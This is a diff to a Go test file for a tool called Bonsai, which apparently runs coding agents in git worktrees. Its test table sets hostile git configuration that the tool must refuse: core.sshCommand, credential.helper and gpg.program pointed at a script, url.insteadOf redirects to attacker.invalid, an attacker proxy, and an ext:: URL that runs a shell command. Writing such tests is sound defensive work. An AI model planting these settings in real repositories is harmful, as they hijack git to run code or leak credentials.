@@ -14,6 +14,7 @@ import (
 	"testing"
 
 	"github.com/bonsai-run/bonsai/internal/board"
+	"github.com/bonsai-run/bonsai/internal/gittest"
 	"github.com/bonsai-run/bonsai/internal/workspace"
 )
 
@@ -40,13 +41,13 @@ func newRemoteFixture(t *testing.T, overHTTP bool) *remoteFixture {
 	f := &remoteFixture{proxy: new(atomic.Int32)}
 	root := t.TempDir()
 	f.bare = filepath.Join(root, "repo.git")
-	git(t, root, "clone", "-q", "--bare", newRepo(t), f.bare)
+	gittest.Run(t, root, "clone", "-q", "--bare", newRepo(t), f.bare)
 	f.other = filepath.Join(root, "other.git")
-	git(t, root, "init", "-q", "--bare", f.other)
+	gittest.Run(t, root, "init", "-q", "--bare", f.other)
 	f.url = "file://" + f.bare
 	repo := f.url
 	if overHTTP {
-		git(t, f.bare, "config", "http.receivepack", "true")
+		gittest.Run(t, f.bare, "config", "http.receivepack", "true")
 		srv := gitHTTPServer(t, root, "x-access-token", "tok-SECRET-42")
 		f.url = srv.URL + "/repo.git"
 		repo = strings.Replace(srv.URL, "http://", "http://x-access-token:tok-SECRET-42@", 1) + "/repo.git"
@@ -65,8 +66,8 @@ func newRemoteFixture(t *testing.T, overHTTP bool) *remoteFixture {
 	f.proj = project(repo)
 	f.ws = prepare(t, f.p, f.proj, ticket(5, "Feature"))
 	os.WriteFile(filepath.Join(f.ws.Root, "feature.txt"), []byte("done\n"), 0o644)
-	git(t, f.ws.Root, "add", ".")
-	git(t, f.ws.Root, "commit", "-q", "-m", "add feature")
+	gittest.Run(t, f.ws.Root, "add", ".")
+	gittest.Run(t, f.ws.Root, "commit", "-q", "-m", "add feature")
 	return f
 }
 
@@ -102,120 +103,120 @@ func keys(ks ...string) func(*remoteFixture) []string {
 
 var refusalCases = []refusalCase{
 	{name: "core.sshCommand", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "url.ssh://attacker.invalid/r.git.insteadOf", f.url)
-		git(t, dir, "config", "core.sshCommand", f.script)
+		gittest.Run(t, dir, "config", "url.ssh://attacker.invalid/r.git.insteadOf", f.url)
+		gittest.Run(t, dir, "config", "core.sshCommand", f.script)
 	}, keys: keys("core.sshcommand", "url.ssh://attacker.invalid/r.git.insteadof")},
 	{name: "per-worktree config", set: func(t *testing.T, f *remoteFixture, dir string) {
 		// The runtime runs git in the clone's own checkout, whose
 		// config.worktree applies once extensions.worktreeConfig is on.
 		clone := f.p.ClonePath("demo")
-		git(t, dir, "config", "extensions.worktreeConfig", "true")
-		git(t, clone, "config", "--worktree", "url.ssh://attacker.invalid/r.git.insteadOf", f.url)
-		git(t, clone, "config", "--worktree", "core.sshCommand", f.script)
+		gittest.Run(t, dir, "config", "extensions.worktreeConfig", "true")
+		gittest.Run(t, clone, "config", "--worktree", "url.ssh://attacker.invalid/r.git.insteadOf", f.url)
+		gittest.Run(t, clone, "config", "--worktree", "core.sshCommand", f.script)
 	}, keys: keys("core.sshcommand (in config.worktree)", "git config --worktree --unset-all core.sshcommand",
 		"git config --worktree --unset-all url.ssh://attacker.invalid/r.git.insteadof")},
 	{name: "core.gitProxy", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "url.git://attacker.invalid/r.git.insteadOf", f.url)
-		git(t, dir, "config", "core.gitProxy", f.script)
+		gittest.Run(t, dir, "config", "url.git://attacker.invalid/r.git.insteadOf", f.url)
+		gittest.Run(t, dir, "config", "core.gitProxy", f.script)
 	}, keys: keys("core.gitproxy", "url.git://attacker.invalid/r.git.insteadof")},
 	{name: "core.askPass", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "core.askPass", f.script)
+		gittest.Run(t, dir, "config", "core.askPass", f.script)
 	}, keys: keys("core.askpass")},
 	{name: "credential.helper", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
 		// Git hands a helper the credentials that worked ("store").
-		git(t, dir, "config", "credential.helper", "!"+f.script)
+		gittest.Run(t, dir, "config", "credential.helper", "!"+f.script)
 	}, keys: keys("credential.helper")},
 	{name: "credential.<url>.helper", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "credential."+f.url+".helper", "!"+f.script)
-		git(t, dir, "config", "credential.useHttpPath", "true")
+		gittest.Run(t, dir, "config", "credential."+f.url+".helper", "!"+f.script)
+		gittest.Run(t, dir, "config", "credential.useHttpPath", "true")
 	}, keys: func(f *remoteFixture) []string {
 		return []string{"credential." + f.url + ".helper", "credential.usehttppath"}
 	}},
 	{name: "url.insteadOf", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "url.file://"+f.other+".insteadOf", f.url)
+		gittest.Run(t, dir, "config", "url.file://"+f.other+".insteadOf", f.url)
 	}, keys: func(f *remoteFixture) []string { return []string{"url.file://" + f.other + ".insteadof"} }},
 	{name: "url.pushInsteadOf", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "url.file://"+f.other+".pushInsteadOf", f.url)
+		gittest.Run(t, dir, "config", "url.file://"+f.other+".pushInsteadOf", f.url)
 	}, keys: func(f *remoteFixture) []string { return []string{"url.file://" + f.other + ".pushinsteadof"} }},
 	{name: "remote.origin", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "--add", "remote.origin.pushurl", "file://"+f.other)
-		git(t, dir, "config", "remote.origin.uploadpack", f.script)
-		git(t, dir, "config", "remote.origin.receivepack", f.script)
-		git(t, dir, "config", "remote.origin.proxy", "http://attacker.invalid:3128")
-		git(t, dir, "config", "remote.origin.vcs", "evil")
+		gittest.Run(t, dir, "config", "--add", "remote.origin.pushurl", "file://"+f.other)
+		gittest.Run(t, dir, "config", "remote.origin.uploadpack", f.script)
+		gittest.Run(t, dir, "config", "remote.origin.receivepack", f.script)
+		gittest.Run(t, dir, "config", "remote.origin.proxy", "http://attacker.invalid:3128")
+		gittest.Run(t, dir, "config", "remote.origin.vcs", "evil")
 	}, keys: keys("remote.origin.pushurl", "remote.origin.uploadpack", "remote.origin.receivepack", "remote.origin.proxy", "remote.origin.vcs")},
 	{name: "remote named like the URL", set: func(t *testing.T, f *remoteFixture, dir string) {
 		// git fetch <url> applies the settings of a remote named <url>.
-		git(t, dir, "config", "remote."+f.url+".uploadpack", f.script)
-		git(t, dir, "config", "remote."+f.url+".receivepack", f.script)
+		gittest.Run(t, dir, "config", "remote."+f.url+".uploadpack", f.script)
+		gittest.Run(t, dir, "config", "remote."+f.url+".receivepack", f.script)
 	}, keys: func(f *remoteFixture) []string {
 		return []string{"remote." + f.url + ".uploadpack", "remote." + f.url + ".receivepack"}
 	}},
 	{name: "remote URL named like the URL", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "remote."+f.url+".url", "file://"+f.other)
+		gittest.Run(t, dir, "config", "remote."+f.url+".url", "file://"+f.other)
 	}, keys: func(f *remoteFixture) []string { return []string{"remote." + f.url + ".url"} }},
 	{name: "remotes group named like the URL", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "remote", "add", "evil", f.script+"-not-a-repo")
-		git(t, dir, "config", "remote.evil.uploadpack", f.script)
-		git(t, dir, "config", "remotes."+f.url, "evil")
+		gittest.Run(t, dir, "remote", "add", "evil", f.script+"-not-a-repo")
+		gittest.Run(t, dir, "config", "remote.evil.uploadpack", f.script)
+		gittest.Run(t, dir, "config", "remotes."+f.url, "evil")
 	}, keys: func(f *remoteFixture) []string { return []string{"remotes." + f.url, "remote.evil.uploadpack"} }},
 	{name: "include.path", set: func(t *testing.T, f *remoteFixture, dir string) {
 		inc := filepath.Join(t.TempDir(), "included")
 		os.WriteFile(inc, []byte("[url \"ssh://attacker.invalid/r.git\"]\n\tinsteadOf = "+f.url+"\n[core]\n\tsshCommand = "+f.script+"\n"), 0o644)
-		git(t, dir, "config", "include.path", inc)
+		gittest.Run(t, dir, "config", "include.path", inc)
 	}, keys: keys("include.path", "core.sshcommand (from an included file)")},
 	{name: "includeIf", set: func(t *testing.T, f *remoteFixture, dir string) {
 		inc := filepath.Join(t.TempDir(), "included")
 		os.WriteFile(inc, []byte("[remote \""+f.url+"\"]\n\tuploadpack = "+f.script+"\n"), 0o644)
-		git(t, dir, "config", "includeIf.gitdir:/**.path", inc)
+		gittest.Run(t, dir, "config", "includeIf.gitdir:/**.path", inc)
 	}, keys: func(f *remoteFixture) []string {
 		return []string{"includeif.gitdir:/**.path", "remote." + f.url + ".uploadpack (from an included file)"}
 	}},
 	{name: "http.proxy", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "http.proxy", f.proxyServer(t))
+		gittest.Run(t, dir, "config", "http.proxy", f.proxyServer(t))
 	}, keys: keys("http.proxy")},
 	{name: "http.<url>.*", overHTTP: true, set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "http."+f.url+".proxy", f.proxyServer(t))
-		git(t, dir, "config", "http.extraHeader", "X-Leak: 1")
-		git(t, dir, "config", "http.sslVerify", "false")
+		gittest.Run(t, dir, "config", "http."+f.url+".proxy", f.proxyServer(t))
+		gittest.Run(t, dir, "config", "http.extraHeader", "X-Leak: 1")
+		gittest.Run(t, dir, "config", "http.sslVerify", "false")
 	}, keys: func(f *remoteFixture) []string {
 		return []string{"http." + f.url + ".proxy", "http.extraheader", "http.sslverify"}
 	}},
 	{name: "protocol.allow", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "protocol.allow", "always")
-		git(t, dir, "config", "protocol.ext.allow", "always")
-		git(t, dir, "config", "url.ext::sh -c touch% "+f.marker+".insteadOf", f.url)
+		gittest.Run(t, dir, "config", "protocol.allow", "always")
+		gittest.Run(t, dir, "config", "protocol.ext.allow", "always")
+		gittest.Run(t, dir, "config", "url.ext::sh -c touch% "+f.marker+".insteadOf", f.url)
 	}, keys: func(f *remoteFixture) []string {
 		return []string{"protocol.allow", "protocol.ext.allow", "url.ext::sh -c touch% " + f.marker + ".insteadof"}
 	}},
 	{name: "push signing", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "push.gpgSign", "if-asked")
-		git(t, dir, "config", "gpg.program", f.script)
-		git(t, dir, "config", "gpg.ssh.program", f.script)
-		git(t, dir, "config", "gpg.ssh.defaultKeyCommand", f.script)
+		gittest.Run(t, dir, "config", "push.gpgSign", "if-asked")
+		gittest.Run(t, dir, "config", "gpg.program", f.script)
+		gittest.Run(t, dir, "config", "gpg.ssh.program", f.script)
+		gittest.Run(t, dir, "config", "gpg.ssh.defaultKeyCommand", f.script)
 	}, keys: keys("push.gpgsign", "gpg.program", "gpg.ssh.program", "gpg.ssh.defaultkeycommand")},
 	{name: "alternates", set: func(t *testing.T, f *remoteFixture, dir string) {
 		// fetch lists the refs of the clone's alternates with this command.
 		objects := filepath.Join(f.p.ClonePath("demo"), ".git", "objects", "info", "alternates")
 		os.WriteFile(objects, []byte(filepath.Join(f.other, "objects")+"\n"), 0o644)
-		git(t, dir, "config", "core.alternateRefsCommand", f.script)
+		gittest.Run(t, dir, "config", "core.alternateRefsCommand", f.script)
 	}, keys: keys("core.alternaterefscommand")},
 	{name: "submodules and bundles", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "submodule.recurse", "true")
-		git(t, dir, "config", "fetch.recurseSubmodules", "yes")
-		git(t, dir, "config", "push.recurseSubmodules", "on-demand")
-		git(t, dir, "config", "fetch.bundleURI", "file://"+f.other)
-		git(t, dir, "config", "bundle.evil.uri", "file://"+f.other)
-		git(t, dir, "config", "transfer.bundleURI", "true")
+		gittest.Run(t, dir, "config", "submodule.recurse", "true")
+		gittest.Run(t, dir, "config", "fetch.recurseSubmodules", "yes")
+		gittest.Run(t, dir, "config", "push.recurseSubmodules", "on-demand")
+		gittest.Run(t, dir, "config", "fetch.bundleURI", "file://"+f.other)
+		gittest.Run(t, dir, "config", "bundle.evil.uri", "file://"+f.other)
+		gittest.Run(t, dir, "config", "transfer.bundleURI", "true")
 	}, keys: keys("submodule.recurse", "fetch.recursesubmodules", "push.recursesubmodules", "fetch.bundleuri", "bundle.evil.uri", "transfer.bundleuri")},
 	{name: "partial clone", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "extensions.partialClone", "evil")
-		git(t, dir, "config", "remote.evil.promisor", "true")
+		gittest.Run(t, dir, "config", "extensions.partialClone", "evil")
+		gittest.Run(t, dir, "config", "remote.evil.promisor", "true")
 	}, keys: keys("extensions.partialclone", "remote.evil.promisor")},
 	{name: "serving side", set: func(t *testing.T, f *remoteFixture, dir string) {
-		git(t, dir, "config", "uploadpack.packObjectsHook", f.script)
-		git(t, dir, "config", "receive.procReceiveRefs", "refs/heads")
-		git(t, dir, "config", "ssh.variant", "simple")
+		gittest.Run(t, dir, "config", "uploadpack.packObjectsHook", f.script)
+		gittest.Run(t, dir, "config", "receive.procReceiveRefs", "refs/heads")
+		gittest.Run(t, dir, "config", "ssh.variant", "simple")
 	}, keys: keys("uploadpack.packobjectshook", "receive.procreceiverefs", "ssh.variant")},
 }
 
@@ -228,6 +229,7 @@ var refusalCases = []refusalCase{
 // Where a case pairs keys (core.sshCommand with a url.insteadOf that makes
 // git use ssh), the pair works without the check.
 func TestProvider_RemoteOpsRefuseTheAgentsGitConfig(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	for _, tc := range refusalCases {
 		t.Run(tc.name, func(t *testing.T) {
@@ -294,6 +296,7 @@ func checkRefusal(t *testing.T, f *remoteFixture, err error, keys []string) {
 // config, next to what Bonsai and git write themselves: fetch and push must
 // still work, with the credentials, and leave the settings alone.
 func TestProvider_RemoteOpsKeepOrdinaryConfig(t *testing.T) {
+	t.Parallel()
 	for _, overHTTP := range []bool{false, true} {
 		t.Run(fmt.Sprintf("overHTTP=%v", overHTTP), func(t *testing.T) {
 			f := newRemoteFixture(t, overHTTP)
@@ -312,19 +315,19 @@ func TestProvider_RemoteOpsKeepOrdinaryConfig(t *testing.T) {
 				{"branch." + f.ws.Branch + ".description", "the feature"}, {"transfer.fsckObjects", "true"},
 				{"extensions.worktreeConfig", "true"},
 			} {
-				git(t, dir, "config", kv[0], kv[1])
+				gittest.Run(t, dir, "config", kv[0], kv[1])
 			}
-			git(t, dir, "config", "--worktree", "user.name", "Agent in its worktree")
+			gittest.Run(t, dir, "config", "--worktree", "user.name", "Agent in its worktree")
 			ctx := context.Background()
 			if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
 				t.Fatalf("Push = %v, %v; want true, nil", pushed, err)
 			}
-			if got, want := git(t, f.bare, "rev-parse", f.ws.Branch), git(t, dir, "rev-parse", "HEAD"); got != want {
+			if got, want := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch), gittest.Run(t, dir, "rev-parse", "HEAD"); got != want {
 				t.Errorf("remote %s at %s, want %s", f.ws.Branch, got, want)
 			}
 			prepare(t, f.p, f.proj, ticket(5, "Feature")) // fetches
 			prepare(t, f.p, f.proj, ticket(6, "Another")) // a new worktree from origin/main
-			if got := git(t, dir, "config", "push.default"); got != "current" {
+			if got := gittest.Run(t, dir, "config", "push.default"); got != "current" {
 				t.Errorf("push.default = %q after the runtime's fetch and push", got)
 			}
 		})
@@ -337,41 +340,42 @@ func TestProvider_RemoteOpsKeepOrdinaryConfig(t *testing.T) {
 // see: that push is refused and their commit stays; after the next fetch
 // the branch is Bonsai's again.
 func TestProvider_PushLeasesOnTheFetchedBranch(t *testing.T) {
+	t.Parallel()
 	ctx := context.Background()
 	f := newRemoteFixture(t, false)
 	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
 		t.Fatalf("first Push = %v, %v", pushed, err)
 	}
-	git(t, f.ws.Root, "commit", "-q", "--amend", "-m", "add feature, reworded")
+	gittest.Run(t, f.ws.Root, "commit", "-q", "--amend", "-m", "add feature, reworded")
 	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
 		t.Fatalf("Push of a rewritten branch = %v, %v", pushed, err)
 	}
-	head := git(t, f.ws.Root, "rev-parse", "HEAD")
-	if got := git(t, f.bare, "rev-parse", f.ws.Branch); got != head {
+	head := gittest.Run(t, f.ws.Root, "rev-parse", "HEAD")
+	if got := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch); got != head {
 		t.Fatalf("remote branch at %s, want the rewritten %s", got, head)
 	}
-	if got := git(t, f.ws.Root, "rev-parse", "refs/remotes/origin/"+f.ws.Branch); got != head {
+	if got := gittest.Run(t, f.ws.Root, "rev-parse", "refs/remotes/origin/"+f.ws.Branch); got != head {
 		t.Errorf("origin/%s at %s after the push, want %s", f.ws.Branch, got, head)
 	}
 
 	other := filepath.Join(t.TempDir(), "other")
-	git(t, filepath.Dir(other), "clone", "-q", "-b", f.ws.Branch, f.bare, other)
-	git(t, other, "commit", "-q", "--allow-empty", "-m", "someone else's commit")
-	git(t, other, "push", "-q", "origin", f.ws.Branch)
-	theirs := git(t, other, "rev-parse", "HEAD")
+	gittest.Run(t, filepath.Dir(other), "clone", "-q", "-b", f.ws.Branch, f.bare, other)
+	gittest.Run(t, other, "commit", "-q", "--allow-empty", "-m", "someone else's commit")
+	gittest.Run(t, other, "push", "-q", "origin", f.ws.Branch)
+	theirs := gittest.Run(t, other, "rev-parse", "HEAD")
 
-	git(t, f.ws.Root, "commit", "-q", "--amend", "-m", "add feature, again")
+	gittest.Run(t, f.ws.Root, "commit", "-q", "--amend", "-m", "add feature, again")
 	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err == nil || pushed {
 		t.Fatalf("Push over a commit the last fetch did not see = %v, %v; want an error", pushed, err)
 	}
-	if got := git(t, f.bare, "rev-parse", f.ws.Branch); got != theirs {
+	if got := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch); got != theirs {
 		t.Fatalf("remote branch at %s, want their %s kept", got, theirs)
 	}
 	prepare(t, f.p, f.proj, ticket(5, "Feature"))
 	if pushed, err := f.p.Push(ctx, f.proj, f.ws); err != nil || !pushed {
 		t.Fatalf("Push after a fetch = %v, %v", pushed, err)
 	}
-	if got, want := git(t, f.bare, "rev-parse", f.ws.Branch), git(t, f.ws.Root, "rev-parse", "HEAD"); got != want {
+	if got, want := gittest.Run(t, f.bare, "rev-parse", f.ws.Branch), gittest.Run(t, f.ws.Root, "rev-parse", "HEAD"); got != want {
 		t.Errorf("remote branch at %s, want %s", got, want)
 	}
 }
